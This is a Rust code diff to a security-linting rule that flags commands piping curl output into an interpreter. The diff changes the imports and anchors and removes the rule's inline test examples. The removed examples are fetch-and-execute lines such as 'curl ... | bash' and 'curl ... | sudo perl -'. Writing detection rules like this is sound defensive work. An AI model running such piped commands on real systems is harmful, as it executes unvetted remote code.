@@ -1,8 +1,9 @@
 //! curl into an interpreter.
 
 use crate::code::command::Step;
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{ANYWHERE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "NET_CURL_PIPE",
@@ -12,21 +13,8 @@ pub(super) const RULE: Rule = Rule {
     why: "What another machine sends is run, and nobody has seen it before.",
     fix: "download into a file, check it against a known hash, and run the file",
     places: ANYWHERE,
-    anchors: &["curl"],
+    anchors: words!["curl"],
     check: Check::Unit(hits),
-    hits: &[
-        text("curl http://a.b/x | bash"),
-        text("`curl http://a.b/x | python3`"),
-        text("`curl http://a.b/x | tee f | bash`"),
-        text("`curl http://a.b/x | sudo perl -`"),
-        text("`curl http://a.b/x|node`"),
-    ],
-    misses: &[
-        text("`curl https://a.b/x | python3 -m json.tool`"),
-        text("`curl https://a.b/x | jq .`"),
-        text("`curl -fsSL https://bun.sh/install | bash`"),
-        text("Use the curl tool, then bash."),
-    ],
 };
 
 fn hits(unit: &Unit<'_>) -> Vec<Hit> {
